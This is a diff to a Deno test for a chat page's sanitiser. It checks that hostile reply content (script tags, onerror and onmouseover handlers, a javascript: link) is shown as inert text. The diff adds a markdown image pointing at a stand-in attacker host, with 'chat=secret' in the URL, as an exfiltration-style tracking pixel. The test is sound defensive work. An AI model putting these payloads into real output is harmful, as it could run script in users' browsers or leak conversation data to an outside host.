@@ -147,7 +147,8 @@ Deno.test("Chat page - HTML and script in a reply are shown as text and nothing 
       "Look: <script>window.pwned = 1</script> and ",
       '<img src=x onerror="window.pwned = 2"> and ',
       "[click me](javascript:window.pwned=3) and ",
-      '<b onmouseover="window.pwned=4">bold?</b>\n\n',
+      '<b onmouseover="window.pwned=4">bold?</b> and ',
+      "![tracker](https://evil.example/pixel.png?chat=secret)\n\n",
       "```html\n<script>window.pwned = 5</script>\n```\n",
     ];
     provider.enqueue({ kind: "reply", chunks: hostile });
@@ -165,6 +166,12 @@ Deno.test("Chat page - HTML and script in a reply are shown as text and nothing 
     assert.equal(await reply.locator("script, img, b, [onerror]").count(), 0);
     // The code block is a code block, its content text.
     assert.match(await reply.locator("pre code").innerText(), /<script>/);
+    // An image is a link that loads nothing until clicked.
+    const image = reply.locator("a.image-link", { hasText: "tracker" });
+    assert.equal(
+      await image.getAttribute("href"),
+      "https://evil.example/pixel.png?chat=secret",
+    );
     // The javascript: link lost its URL.
     const link = reply.locator("a", { hasText: "click me" });
     assert.equal(await link.count(), 1);
